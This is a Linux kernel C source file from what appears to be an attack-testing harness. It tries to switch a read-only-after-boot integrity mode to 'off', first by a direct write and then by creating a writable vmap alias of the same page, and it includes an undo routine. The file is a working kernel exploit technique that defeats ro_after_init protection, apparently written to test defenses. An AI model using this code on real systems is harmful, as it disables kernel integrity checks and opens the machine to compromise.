// SPDX-License-Identifier: GPL-2.0-only
/*
 * The attack on the kernel's notion of its own mode: turned to "off", the
 * kernel would believe its keyrings again. The variable is read-only after
 * boot, so a plain write faults; an attacker who edits page tables (data, too)
 * gets a second, writable mapping of the same page.
 */
#include <linux/mm.h>
#include <linux/vmalloc.h>

#include "attack.h"

static u8 *mode;
static u8 saved_mode;
static u8 *alias;

static int find_mode(void)
{
	if (!find_symbol("imatee_mode_name"))
		return -EOPNOTSUPP;
	mode = find_ro_after_init("mode");
	if (!mode)
		return -ENOENT;
	saved_mode = *mode;
	return 0;
}

int attack_mode(const struct target *t)
{
	u8 off = 0;
	int rc = find_mode();

	return rc ?: poke(mode, &off, sizeof(off));
}

int attack_mode_alias(const struct target *t)
{
	struct page *page;
	int rc = find_mode();

	if (rc)
		return rc;
	page = phys_to_page(__pa_symbol(mode));
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias)
		return -ENOMEM;
	alias[offset_in_page(mode)] = 0;
	return *mode ? -EIO : 0;
}

void undo_mode(void)
{
	if (!alias)
		return;
	alias[offset_in_page(mode)] = saved_mode;
	vunmap(alias);
	alias = NULL;
}
